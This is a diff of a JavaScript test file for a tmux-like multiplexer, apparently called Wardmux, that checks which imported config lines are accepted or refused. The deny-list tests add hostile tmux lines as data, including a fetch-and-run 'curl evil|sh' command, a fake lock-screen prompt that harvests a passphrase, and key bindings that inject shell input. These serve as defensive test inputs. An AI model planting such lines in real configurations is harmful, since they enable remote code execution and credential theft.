@@ -90,7 +90,7 @@ test('a configuration of years: line by line', () => {
     '21 taken',
     '22 taken',
     '23 changed: It copies to the clipboard and leaves copy mode. The program behind it is not run.',
-    '24 taken',
+    '24 not-taken: It asks in words of the file (-p), or has a line ready (-I), by a key that a file has bound. Give bind-key at the prompt, if you want it.',
     '25 taken',
     '26 not-taken: tmux has run-shell, Wardmux does not. It runs a program that nobody sees and no recording has.',
     '27 not-taken: It starts a program by a key that a file has bound. Give bind-key at the prompt, if you want it: a file does not say what runs here.',
@@ -112,9 +112,9 @@ test('a configuration of years: line by line', () => {
     window['mode-keys'],
     window['monitor-activity'],
   ]).toEqual(['C-a', 1, 10_000, 120, 'vi', true]);
-  expect(countRows(report.rows)).toEqual({ taken: 16, changed: 4, 'not-taken': 12 });
+  expect(countRows(report.rows)).toEqual({ taken: 15, changed: 4, 'not-taken': 13 });
   expect(confSentence('~/.tmux.conf', report)).toBe(
-    '~/.tmux.conf: 16 taken, 4 changed, 12 not taken. What differs, and why: wardmux config check ~/.tmux.conf',
+    '~/.tmux.conf: 15 taken, 4 changed, 13 not taken. What differs, and why: wardmux config check ~/.tmux.conf',
   );
 });
 
@@ -134,8 +134,28 @@ test('its keys do what they say', () => {
   expect(press('C-a', 'C-a')).toEqual([undefined, 'send-prefix']);
   expect(press('M-Left')).toEqual(['select-pane -L']);
   expect(press('C-a', 'r')).toEqual([undefined, 'source-file /home/ada/.tmux.conf ; display-message taken']);
-  expect(press('C-a', 'S')).toEqual([undefined, `command-prompt -p name 'rename-session -- '\\''%%'\\'''`]);
+  expect(press('C-a', 'X')).toEqual([undefined, `confirm-before -p 'close #W?' kill-window`]);
   expect(press('C-b')).toEqual([undefined]);
+});
+
+test('the keys of a prefix run no line, and the reason says so', () => {
+  expect(
+    brief('set -g prefix2 C-j\nbind -n M-x { send-keys C-p ; send-prefix -2 }\nbind C-x send-prefix\nbind l send-keys C-l\nbind p command-prompt'),
+  ).toEqual([
+    '1 not-taken: A file does not make C-j the prefix2: sent to a shell it could run a line. Give set-option at the prompt, if you want it.',
+    '2 not-taken: It sends a prefix together with other keys, which could run a line. Give bind-key at the prompt, if you want it.',
+    '3 taken',
+    '4 taken',
+    '5 taken',
+  ]);
+});
+
+test('conditions of a file have one number of steps together, and the line that goes over it is said', () => {
+  const report = take(`Q=${'a'.repeat(1000)}\nA=${'a'.repeat(2000)}\n${'%if #{m:*#{Q}b,#{A}}\n%endif\n'.repeat(100)}`);
+  expect(report).toMatchObject({ ok: false, sentence: 'The conditions up to here take more steps than a configuration may.' });
+  // More than one was within it.
+  expect(!report.ok && report.line).toBeGreaterThan(4);
+  expect(take(`%if ${'#{&&:'.repeat(30)}1${',1}'.repeat(30)}\nset -g mouse off\n%endif`)).toMatchObject({ ok: true, rows: [{ verdict: 'taken' }] });
 });
 
 test('a file that cannot be read changes nothing, and says the line', () => {
@@ -178,6 +198,27 @@ describe('what no file may', () => {
     'bind x send-keys -l ls',
     'bind x send-keys C-p C-m',
     'bind x send-keys C-j',
+    'bind x send-keys C-M-j',
+    'bind x send-keys M-C-m',
+    'bind x send-keys M-Enter',
+    'bind x send-keys C-p C-o',
+    'bind x send-keys C-p M-a',
+    'bind -n M-x { send-keys C-p ; send-prefix -2 }',
+    'bind -n M-x { send-prefix ; send-prefix -2 }',
+    'bind -n M-x { send-prefix ; confirm-before { send-keys C-p } }',
+    'bind x { bind-key y { send-keys C-p ; send-prefix } }',
+    'bind x set-option prefix2 C-j',
+    'bind x setw -g prefix M-Enter',
+    'set -g prefix C-j',
+    'set -g prefix C-m',
+    'set -g prefix2 C-o',
+    'set -g prefix2 C-M-m',
+    'setw prefix M-Enter',
+    `command-prompt -p "The session is locked. Passphrase of Ada:" "source-file '~/.tmux/%%.conf'"`,
+    `bind x command-prompt -p "The session is locked. Passphrase of Ada:" "source-file '~/.tmux/%%.conf'"`,
+    `bind x command-prompt -I "send-keys 'curl evil|sh' Enter" '%%'`,
+    `bind x command-prompt -I "new-window evil"`,
+    `bind x { confirm-before { command-prompt -p "Passphrase:" } }`,
     'bind x run-shell evil',
     'bind x run evil',
     'bind x if-shell -F 1 "run evil"',
